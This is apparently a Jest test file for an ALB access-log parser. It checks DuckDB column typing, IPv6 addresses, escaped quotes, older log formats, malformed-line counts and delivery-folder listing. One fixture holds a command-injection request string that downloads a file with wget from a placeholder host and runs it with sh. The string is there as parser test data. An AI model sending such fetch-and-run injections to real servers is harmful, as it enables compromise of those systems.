// The ALB reader on small inputs the test writes itself, one parsing quirk at a time, run on a real
// DuckDB exactly as the engine runs it (the view and the health check of alb.source.ts). The last
// block checks that JavaScript's backtracking regex engine (the family of Java's, which Athena's
// RegexSerDe uses) captures exactly what DuckDB's RE2 captures, for every line here.
import { DuckDBConnection, DuckDBInstance } from '@duckdb/node-api';
import { promises as fsp } from 'node:fs';
import * as path from 'node:path';
import { albLine } from '../../../../test/helpers/alb-archive';
import { removeDir, tempDir } from '../../../../test/helpers/archive';
import { ALB_COLUMNS, ALB_LINE_PATTERN } from '../../../query/alb-table';
import { loadSql } from '../../../query/sql-template';
import type { ArchiveFile } from '../archive-listing';
import { isAlbLogName, listAlbFiles } from './alb-files';
import { albSource } from './alb.source';

let instance: DuckDBInstance;
let c: DuckDBConnection;
let root: string;
let n = 0;
const seen: string[] = [];

beforeAll(async () => {
  root = await tempDir('auditql-alb-');
  instance = await DuckDBInstance.create(':memory:');
  c = await instance.connect();
  await c.run('CREATE TYPE ipaddress AS VARCHAR');
  await c.run(loadSql('duckdb/macros.sql'));
});

afterAll(async () => {
  c?.closeSync();
  instance?.closeSync();
  await removeDir(root);
});

async function rows(sql: string): Promise<Record<string, unknown>[]> {
  return (await c.runAndReadAll(sql)).getRowObjectsJS() as Record<string, unknown>[];
}

/** Writes the lines as one plain ALB file of 2026/11/30 and returns what the view and the health check say. */
async function parse(lines: readonly string[]): Promise<{ records: Record<string, unknown>[]; health: ReturnType<typeof albSource.healthFromRow> }> {
  seen.push(...lines);
  const key = `AWSLogs/111122223333/elasticloadbalancing/us-east-1/2026/11/30/111122223333_elasticloadbalancing_us-east-1_app.lb.0123456789abcdef_20261130T1200Z_10.0.0.1_q${n++}.log`;
  await fsp.mkdir(path.dirname(path.join(root, key)), { recursive: true });
  await fsp.writeFile(path.join(root, key), lines.join('\n'));
  const file: ArchiveFile = { key, size: 0, mtimeMs: 0 };
  const [h] = await rows(albSource.healthSql(root, [file]));
  await c.run(albSource.viewSql(root, [file], 'SELECT * FROM alb_logs'));
  return { records: await rows('SELECT * FROM alb_logs'), health: albSource.healthFromRow(h) };
}

async function one(line: string): Promise<Record<string, unknown>> {
  const { records, health } = await parse([line]);
  expect(health).toMatchObject({ records: 1, malformed: 0 });
  expect(records).toHaveLength(1);
  return records[0]!;
}

const LINE_COLUMNS = ALB_COLUMNS.map((col) => col.name);

describe('the ALB line regular expression', () => {
  it('has one capture group per column, in the table order', () => {
    const groups = (new RegExp(`${ALB_LINE_PATTERN}|`).exec('') ?? []).length - 1;
    expect(groups).toBe(ALB_COLUMNS.length);
    expect(LINE_COLUMNS.slice(0, 5)).toEqual(['type', 'time', 'elb', 'client_ip', 'client_port']);
    expect(LINE_COLUMNS.slice(-4)).toEqual(['conn_trace_id', 'transformed_host', 'transformed_uri', 'request_transform_status']);
    expect(LINE_COLUMNS).toContain('lambda_error_reason');
  });
});

describe('ALB reader', () => {
  it('reads every listener type', async () => {
    const types = ['http', 'https', 'h2', 'grpcs', 'ws', 'wss'];
    const { records } = await parse(types.map((t) => albLine().replace(/^https /, `${t} `)));
    expect(records.map((r) => r.type)).toEqual(types);
  });

  it('types the columns as AWS\'s Athena table does and keeps bytes exact beyond 2^53', async () => {
    const r = await one(albLine().replace(' 200 0 57 ', ' 200 9007199254740993 4294967296 '));
    expect(r).toMatchObject({ client_ip: '192.168.131.39', client_port: 2817, target_ip: '10.0.0.1', target_port: 80, elb_status_code: 200, target_status_code: '200' });
    expect(r.received_bytes).toBe(9007199254740993n);
    expect(r.sent_bytes).toBe(4294967296n);
    expect(r.request_processing_time).toBeCloseTo(0.086);
    expect(r).toMatchObject({ ssl_cipher: 'ECDHE-RSA-AES128-GCM-SHA256', ssl_protocol: 'TLSv1.2', domain_name: 'www.example.com', matched_rule_priority: '1' });
    expect(r).toMatchObject({ actions_executed: 'authenticate,forward', target_port_list: '10.0.0.1:80', target_status_code_list: '200', conn_trace_id: 'TID_1234abcd5678ef90' });
    expect(r).toMatchObject({ account: '111122223333', region: 'us-east-1', day: '2026/11/30' });
    expect(String(r.$path)).toMatch(/^AWSLogs\/111122223333\/elasticloadbalancing\/us-east-1\/2026\/11\/30\/.*\.log$/);
  });

  it('splits the request, URLs with spaces included', async () => {
    const r = await one(albLine({ request: '"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x HTTP/1.1"' }));
    expect([r.request_verb, r.request_url, r.request_proto]).toEqual(['GET', 'http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x', 'HTTP/1.1']);
  });

  it('reads requests the client never finished: `- - -`, a bare URL, a missing protocol', async () => {
    const { records } = await parse([
      albLine({ request: '"- - -"', target: '-' }),
      albLine({ request: '"- http://www.example.com:80- -"', target: '-' }),
      albLine({ request: '"- http://internal.example.com:80-/ "', target: '-' }),
    ]);
    expect(records.map((r) => [r.request_verb, r.request_url, r.request_proto])).toEqual([
      [null, null, null],
      [null, 'http://www.example.com:80-', null],
      [null, 'http://internal.example.com:80-/', null],
    ]);
  });

  it('keeps -1 timings as -1 (AWS: not applicable) and reads a `-` target as NULL address and port', async () => {
    const r = await one(albLine({ target: '-' }).replace('0.086 0.048 0.037', '-1 -1 -1'));
    expect([r.request_processing_time, r.target_processing_time, r.response_processing_time]).toEqual([-1, -1, -1]);
    expect([r.target_ip, r.target_port]).toEqual([null, null]);
  });

  it('reads IPv6 clients and targets with and without brackets', async () => {
    const { records } = await parse([
      albLine({ client: '[fe80::202:b3ff:fe1e:8329]:443', target: '[2001:db8::1]:80' }),
      albLine({ client: '2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599', target: 'fd6d:6bbc:c529:6::face:ed83:f46:80' }),
    ]);
    expect(records.map((r) => [r.client_ip, r.client_port, r.target_ip, r.target_port])).toEqual([
      ['fe80::202:b3ff:fe1e:8329', 443, '2001:db8::1', 80],
      ['2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc', 50599, 'fd6d:6bbc:c529:6::face:ed83:f46', 80],
    ]);
  });

  it('keeps escaped quotes and backslashes as logged', async () => {
    const r = await one(albLine({ userAgent: String.raw`"Mozilla/5.0 (compatible; \"Scanner\" 1.0\\)"`, request: String.raw`"GET http://x.example:80/a\"b c HTTP/1.1"` }));
    expect(r.user_agent).toBe(String.raw`Mozilla/5.0 (compatible; \"Scanner\" 1.0\\)`);
    expect(r.request_url).toBe(String.raw`http://x.example:80/a\"b c`);
  });

  it('reads `-` and empty quoted values as NULL', async () => {
    const r = await one(albLine({ userAgent: '""' }));
    expect([r.user_agent, r.redirect_url, r.lambda_error_reason, r.classification]).toEqual([null, null, null, null]);
  });

  it('reads the 2025 request transform fields', async () => {
    const r = await one(albLine({ tail: '"transformed.example.com" "https://transformed.example.com/index.html" "TransformSuccess"' }));
    expect([r.transformed_host, r.transformed_uri, r.request_transform_status]).toEqual(['transformed.example.com', 'https://transformed.example.com/index.html', 'TransformSuccess']);
  });

  it('ignores unknown fields after the last known one', async () => {
    const r = await one(albLine({ tail: '"-" "-" "TransformSuccess" "a-future-field" 42 "and another"' }));
    expect(r.request_transform_status).toBe('TransformSuccess');
  });

  it('reads lines of every era: ending at trace_id, at error_reason, without a connection trace id', async () => {
    const full = albLine();
    const atTrace = full.slice(0, full.indexOf(' "www.example.com"'));
    const atError = full.slice(0, full.indexOf(' "10.0.0.1:80" "200"'));
    const noTid = full.slice(0, full.indexOf(' TID_'));
    const { records, health } = await parse([atTrace, atError, noTid]);
    expect(health).toMatchObject({ records: 3, malformed: 0 });
    expect(records.map((r) => [r.trace_id, r.domain_name, r.actions_executed, r.target_port_list, r.conn_trace_id])).toEqual([
      ['Root=1-58337281-1d84f3d73c47ec4e58577259', null, null, null, null],
      ['Root=1-58337281-1d84f3d73c47ec4e58577259', 'www.example.com', 'authenticate,forward', null, null],
      ['Root=1-58337281-1d84f3d73c47ec4e58577259', 'www.example.com', 'authenticate,forward', '10.0.0.1:80', null],
    ]);
  });

  it('reads target lists written without quotes, and a quoted field not followed by its space', async () => {
    const bareLists = albLine().replace('"10.0.0.1:80" "200"', '10.0.0.1:80 200');
    const glued = albLine().replace('"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 ', '"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"1 ');
    const { records } = await parse([bareLists, glued]);
    expect(records.map((r) => [r.target_port_list, r.target_status_code_list, r.matched_rule_priority, r.conn_trace_id])).toEqual([
      ['10.0.0.1:80', '200', '1', 'TID_1234abcd5678ef90'],
      ['10.0.0.1:80', '200', '1', 'TID_1234abcd5678ef90'],
    ]);
  });

  it('counts lines that are not ALB lines as malformed, keeps them out, and never returns an all-NULL row', async () => {
    const good = albLine();
    const lines = [
      good,
      // NLB and connection-log lines (other formats), a truncated line, a bad time, a field broken
      // mid-line (no silent shift into later columns), plain garbage.
      'tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30',
      '2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=amazondomains.com" NotBefore=2023-09-21T22:43:21Z FEF257372D5C14D4 Success',
      good.slice(0, 120),
      good.replace('2026-11-30T10:00:00.123456Z', '2026-11-30 10:00:00'),
      good.replace(' 1 2026-11-30T10:00:00.000000Z ', ' 1 2026-11-30T10:00:00.000000Z oops '),
      'not a log line at all',
      '',
      '   ',
    ];
    const { records, health } = await parse(lines);
    expect(health).toMatchObject({ records: 1, malformed: 6, readable: true });
    expect(health.problem).toMatch(/^6 line\(s\) are not ALB access log entries, e\.g\. /);
    expect(records).toHaveLength(1);
    for (const r of records) {
      expect(LINE_COLUMNS.some((col) => r[col] !== null)).toBe(true);
      for (const col of ['type', 'time', 'elb', 'client_ip', 'client_port']) expect(r[col]).not.toBeNull();
    }
  });

  it('marks a file holding no ALB line at all unreadable, and an empty file healthy', async () => {
    const junk = await parse(['tls 2.0 nothing here', 'still nothing']);
    expect(junk.health).toEqual({ records: 0, malformed: 2, readable: false, problem: expect.stringContaining('2 line(s)') });
    const empty = await parse(['', '']);
    expect(empty.health).toEqual({ records: 0, malformed: 0, readable: true, problem: null });
  });

  it('captures exactly what a backtracking regex engine captures, on every line above', async () => {
    const re = new RegExp(ALB_LINE_PATTERN);
    const lines = [...new Set(seen)].filter((l) => l.trim() !== '');
    const names = `[${LINE_COLUMNS.map((col) => `'${col}'`).join(', ')}]`;
    const values = lines.map((l) => `('${l.replace(/'/g, "''")}')`).join(', ');
    const duck = await rows(`SELECT line, regexp_extract(line, '${ALB_LINE_PATTERN.replace(/'/g, "''")}', ${names}) AS f FROM (VALUES ${values}) t(line)`);
    expect(duck).toHaveLength(lines.length);
    for (const { line, f } of duck) {
      const m = re.exec(String(line));
      const js = Object.fromEntries(LINE_COLUMNS.map((col, i) => [col, m?.[i + 1] ?? '']));
      expect({ line, f }).toEqual({ line, f: js });
    }
  });
});

describe('ALB file names', () => {
  it('takes ALB access logs and leaves NLB, connection and Classic ELB logs in the same folder', () => {
    expect(isAlbLogName('123456789012_elasticloadbalancing_us-east-1_app.my-lb.50dc6c495c0c9188_20261130T1205Z_10.0.0.1_2x8u4ol3.log.gz')).toBe(true);
    expect(isAlbLogName('123456789012_elasticloadbalancing_us-east-1_app.my-lb.50dc6c495c0c9188_20261130T1205Z_10.0.0.1_2x8u4ol3.log')).toBe(true);
    expect(isAlbLogName('123456789012_elasticloadbalancing_us-east-1_net.my-nlb.c6e77e28c25b2234_20261130T1205Z_1kc2ejzr.log.gz')).toBe(false);
    expect(isAlbLogName('conn_log.123456789012_elasticloadbalancing_us-east-1_app.my-lb.50dc6c495c0c9188_20261130T1205Z_10.0.0.1_2x8u4ol3.log.gz')).toBe(false);
    expect(isAlbLogName('123456789012_elasticloadbalancing_us-east-1_my-classic-lb_20261130T1205Z_10.0.0.1_2x8u4ol3.log')).toBe(false);
  });

  it('lists only the ALB files of the window\'s delivery day folders, through organisation folders', async () => {
    const dir = await tempDir('auditql-alb-list-');
    try {
      const day = (d: string, org = ''): string => path.join(dir, 'AWSLogs', org, '111122223333', 'elasticloadbalancing', 'eu-west-1', d);
      for (const [folder, name] of [
        [day('2026/11/30'), '111122223333_elasticloadbalancing_eu-west-1_app.a.0000000000000001_20261130T1205Z_10.0.0.1_x.log.gz'],
        [day('2026/11/30'), '111122223333_elasticloadbalancing_eu-west-1_net.n.0000000000000002_20261130T1205Z_x.log.gz'],
        [day('2026/11/30', 'o-abcdefghij'), '111122223333_elasticloadbalancing_eu-west-1_app.b.0000000000000003_20261130T1205Z_10.0.0.2_y.log.gz'],
        [day('2026/12/01'), '111122223333_elasticloadbalancing_eu-west-1_app.a.0000000000000001_20261201T0005Z_10.0.0.1_z.log.gz'],
        [day('2026/12/02'), '111122223333_elasticloadbalancing_eu-west-1_app.a.0000000000000001_20261202T0005Z_10.0.0.1_w.log.gz'],
      ] as const) {
        await fsp.mkdir(folder, { recursive: true });
        await fsp.writeFile(path.join(folder, name), '');
      }
      const files = await listAlbFiles(dir, { from: new Date('2026-11-30T00:00:00Z'), to: new Date('2026-12-01T00:00:00Z') });
      expect(files.map((f) => f.key)).toEqual([
        'AWSLogs/111122223333/elasticloadbalancing/eu-west-1/2026/11/30/111122223333_elasticloadbalancing_eu-west-1_app.a.0000000000000001_20261130T1205Z_10.0.0.1_x.log.gz',
        // Folders are delivery dates: the next day's may hold the window's last minutes.
        'AWSLogs/111122223333/elasticloadbalancing/eu-west-1/2026/12/01/111122223333_elasticloadbalancing_eu-west-1_app.a.0000000000000001_20261201T0005Z_10.0.0.1_z.log.gz',
        'AWSLogs/o-abcdefghij/111122223333/elasticloadbalancing/eu-west-1/2026/11/30/111122223333_elasticloadbalancing_eu-west-1_app.b.0000000000000003_20261130T1205Z_10.0.0.2_y.log.gz',
      ]);
    } finally {
      await removeDir(dir);
    }
  });
});
